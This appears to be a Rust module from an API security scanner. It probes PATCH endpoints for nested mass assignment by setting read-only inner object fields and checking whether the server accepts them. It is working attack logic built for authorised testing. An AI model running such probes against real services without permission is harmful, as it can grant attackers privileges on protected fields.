//! A privilege hidden in an inner object.

use http::Method;
use serde_json::{Value, json};

use crate::door::{GuideDoor, ShutBy};
use crate::oracle;
use crate::payloads::mass_assignment::INNER_VALUE;
use crate::probe::Probe;
use crate::probing::{Attack, AttackError, Probing};
use crate::surface::RequestBody;
use crate::verdict::{Attempts, Verdict};

pub(super) const ATTACK: Attack = Attack {
    name: "mass-nested",
    door: GuideDoor::MassAssignment,
    shut_by: ShutBy::Code,
    thought: "The outer fields are checked; what about the object inside?",
    needs: &[],
    run: |probing| Box::pin(run(probing)),
};

async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
    let mut attempts = Attempts::default();
    for endpoint in p.surface.plain(&Method::PATCH) {
        let RequestBody::Json(properties) = &endpoint.body else { continue };
        for (outer, schema) in properties {
            let inner = schema.get("properties").and_then(Value::as_object).into_iter().flatten();
            for (name, _) in inner.filter(|(_, schema)| is_read_only(schema)) {
                let body = json!({ outer.as_str(): { name.as_str(): INNER_VALUE } });
                let probe = Probe::json(Method::PATCH, endpoint.path.clone(), &body);
                let (answer, seen) = p.send(&p.authenticated(probe)).await?;
                if oracle::took(&answer, &[outer, name], &INNER_VALUE.into()) {
                    let summary = format!("{} took {outer}.{name}", endpoint.path);
                    return Ok(Verdict::exploited(summary, vec![seen]));
                }
                attempts.blocked(seen);
            }
        }
    }
    Ok(attempts.verdict("the inner field was not taken", "no inner object has read-only fields"))
}

fn is_read_only(schema: &Value) -> bool {
    schema.get("readOnly") == Some(&Value::Bool(true))
}
